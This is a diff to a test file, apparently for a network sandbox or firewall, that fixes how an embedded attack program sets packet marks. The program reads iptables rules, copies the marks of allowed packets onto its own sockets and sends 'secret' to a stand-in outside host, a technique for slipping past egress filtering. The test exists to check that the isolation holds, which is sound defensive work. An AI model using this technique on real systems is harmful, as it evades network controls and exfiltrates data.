@@ -142,14 +142,14 @@ test("attack: root in the scope puts an ACCEPT in front of the rules", async (sc
 
 test("attack: root in the scope sets the marks of allowed packets", async (scene) => {
   const program = `
-import re, socket, subprocess
+import re, socket, struct, subprocess
 rules = subprocess.run(["iptables-save"], capture_output=True, text=True).stdout
 marks = {int(m, 16) for m in re.findall(r"0x[0-9a-f]{4,8}", rules)} - {0xffffffff}
 for mark in marks:
     for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
         s = socket.socket(socket.AF_INET, kind)
         s.settimeout(2)
-        s.setsockopt(socket.SOL_SOCKET, 36, mark)
+        s.setsockopt(socket.SOL_SOCKET, 36, struct.pack("=I", mark))
         try:
             s.connect(("203.0.113.66", 9000))
             s.send(b"secret")
